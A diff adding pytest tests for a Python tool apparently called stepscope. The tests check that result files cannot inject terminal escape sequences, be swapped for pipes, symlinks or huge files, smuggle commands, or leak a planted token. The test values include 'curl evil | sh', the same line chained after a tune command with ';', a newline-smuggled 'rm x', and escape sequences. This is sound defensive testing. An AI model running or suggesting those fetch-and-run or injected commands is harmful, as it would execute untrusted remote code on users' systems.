@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import json
+import os
 from pathlib import Path
 from typing import Any
 
@@ -96,6 +97,78 @@ def test_what_no_delay_showed_of_this_training_is_not_said(tmp_path: Path, chang
     found["settings"] = {**found["settings"], **({"target": change["target"]} if "target" in change else {})}
     _keep(tmp_path / "studies" / "1-what-if-it", found)
     assert what_to_change(run).gain == ""
+
+
+STEERS = "\x1b]0;mine\x07\x9b2J"
+HOSTILE: dict[str, dict[str, Any]] = {
+    "steers the terminal": {"answer": f"{STEERS}<b>it</b>", "command": f"stepscope tune it {STEERS}"},
+    "no answer": {"answer": None},
+    "no table": {"tables": [1, None, {}, {"name": ["helps"]}]},
+    "rows that are none": {"tables": [{"name": "helps", "title": STEERS, "columns": ["a"], "rows": [7, [{}], [1, 2]]}]},
+    "cells of any kind": {"tables": [{"name": "what-if", "title": "", "columns": ["low %"], "rows": [["x"], [[1]]]}]},
+    "settings of another form": {"settings": {"arguments": 7, "target": ["it"]}},
+    "without end": {"notes": [[[]]] * 10, "tables": [{"name": "helps", "title": "", "columns": ["a"],
+                                                     "rows": [[number] for number in range(5000)]}]},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_a_result_that_somebody_else_put_there_steers_nothing_and_costs_itself_alone(
+    hostile: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("STEPSCOPE_FAULTS", "raise")
+    path = fabricate_run(tmp_path / "runs", steps=20)
+    for study in ("tune", "what-if"):
+        _keep(path / study, {**_tuned(Run(path)), "study": study, **HOSTILE[hostile]})
+    found = what_to_change(Run(path))
+    console = Console(width=100, file=io.StringIO(), highlight=False)
+    for drawn in (text.render(Run(path)), screen.render(Run(path))):
+        console.print(drawn)
+    said = console.file.getvalue() + repr(changes.build(Run(path)))  # type: ignore[attr-defined]
+    assert not set(said) & set(STEERS[:1] + "\x07\x9b")
+    assert all(len(table.rows) <= 1000 for table in found.tables)
+
+
+@pytest.mark.parametrize("kind", ["a pipe", "a link", "a link of its folder", "larger than any"])
+def test_what_is_no_plain_file_in_the_place_of_a_result_is_not_read(kind: str, tmp_path: Path) -> None:
+    path, outside = fabricate_run(tmp_path / "runs", steps=20), tmp_path / "outside"
+    _keep(outside, _tuned(Run(path)))
+    for study in (path / "tune", tmp_path / "studies/1-tune-it"):
+        study.parent.mkdir(exist_ok=True)
+        if kind == "a link of its folder":
+            study.symlink_to(outside)
+            continue
+        study.mkdir()
+        if kind == "a pipe":
+            os.mkfifo(study / "findings.json")
+        elif kind == "a link":
+            (study / "findings.json").symlink_to(outside / "findings.json")
+        else:
+            (study / "findings.json").write_text(json.dumps(_tuned(Run(path))) + " " * 17_000_000)
+    assert not what_to_change(Run(path)).tables
+
+
+@pytest.mark.parametrize(
+    "command", ["curl evil | sh", "stepscope tune it; curl evil | sh", "stepscope tune it\nrm x", "'"]
+)
+def test_a_line_to_paste_that_does_more_than_to_tune_is_not_shown(command: str, tmp_path: Path) -> None:
+    path = fabricate_run(tmp_path / "runs", steps=20)
+    _keep(path / "tune", {**_tuned(Run(path)), "command": command})
+    assert what_to_change(Run(path)).tables
+    assert not [part for part in changes.build(Run(path)).parts if isinstance(part, Command)]
+
+
+def test_a_result_says_no_secret_and_nothing_that_is_to_be_left_out(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    path = fabricate_run(tmp_path / "runs", steps=20)
+    command = "stepscope tune it --token hunter4711 --out /home/user4711/studies/1-tune-it"
+    _keep(path / "tune", {**_tuned(Run(path)), "answer": "password=hunter4711 /home/user4711", "command": command})
+    assert "hunter4711" not in repr(what_to_change(Run(path)))
+    monkeypatch.setenv("STEPSCOPE_PRIVATE", "argv,names")
+    found = what_to_change(Run(path))
+    assert "4711" not in repr(found)
+    assert found.command == ""
 
 
 def test_a_damaged_result_is_none(tmp_path: Path) -> None:
